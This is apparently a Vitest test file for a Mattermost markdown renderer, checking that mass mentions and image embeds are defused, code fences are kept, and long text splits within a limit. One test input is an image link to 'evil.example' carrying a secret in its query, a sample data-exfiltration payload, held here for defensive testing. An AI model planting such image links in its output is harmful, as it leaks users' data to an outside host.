import { describe, expect, it } from 'vitest';
import { pingsOf } from '../../../test/support/mattermost/pings-of.ts';
import { seededRandom } from '../../../test/support/seeded-random.ts';
import { MAX_CHARACTERS, renderForMattermost, splitForMattermost } from './render-for-mattermost.ts';

describe('markdown for Mattermost', () => {
  it('is what it was, but for what calls everybody or fetches a picture', () => {
    const usual =
      '# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] **done** _so_ `code` [link](https://a.example) @mara &amp; 5 €';
    expect(renderForMattermost(usual)).toBe(usual);
    expect(renderForMattermost('@all @Channel, @here!')).toBe('@\u200ball @\u200bChannel, @\u200bhere!');
    expect(renderForMattermost('@allison and @heredity')).toBe('@allison and @heredity');
    expect(renderForMattermost('![x](https://evil.example/?secret)')).toBe(
      '!\u200b[x](https://evil.example/?secret)',
    );
    expect(renderForMattermost('&#8364; &#64;all')).toBe('&#8364; &\u200b#64;all');
  });

  it.each([
    ['between fences', '```ts\n@all &#64;here ![x](y)\n```', true],
    ['between fences that nobody closes', 'text\n~~~\n@channel', true],
    ['behind a fence that is indented, which Mattermost may read as text', '  ```\n  @all\n  ```', false],
    ['within a line', 'use `@all` here', false],
  ])('code %s is left alone: %j %s', (_where, markdown, isKept) => {
    expect(renderForMattermost(markdown) === markdown).toBe(isKept);
  });

  it('keeps every character of 2,000 texts in their order, and all code between fences', () => {
    const random = seededRandom(7);
    const pieces = [
      ...[
        '@all',
        '@channel',
        '@here',
        '@HERE',
        '&#64;',
        '&commat;',
        '&#x61;',
        '![',
        '](',
        '`',
        '``',
        '**',
        '~~',
        '_',
      ],
      ...['\n', '\n\n', '> ', '- ', '    ', '\\', ' ', 'word', 'é', '😀', '\u200b', '@', '&', '!', '#'],
      ...['\n```\n@all in code\n```\n', '\n~~~js\n![@here]\n~~~\n', '\n```\n', '```', '~~~'],
    ];
    for (let round = 0; round < 2_000; round += 1) {
      const length = 1 + Math.floor(random() * 60);
      const markdown = Array.from({ length }, () => pieces[Math.floor(random() * pieces.length)]).join('');
      const rendered = renderForMattermost(markdown);
      expect(rendered.replaceAll('\u200b', ''), markdown).toBe(markdown.replaceAll('\u200b', ''));
      expect(pingsOf(rendered), markdown).toEqual([]);
    }
  });

  it('is cut so that each part, with what keeps signs apart, is within the limit', () => {
    const parts = splitForMattermost('@all '.repeat(20_000));
    expect(parts.length).toBeGreaterThan(6);
    for (const part of parts) expect(renderForMattermost(part).length).toBeLessThanOrEqual(MAX_CHARACTERS);
  });
});
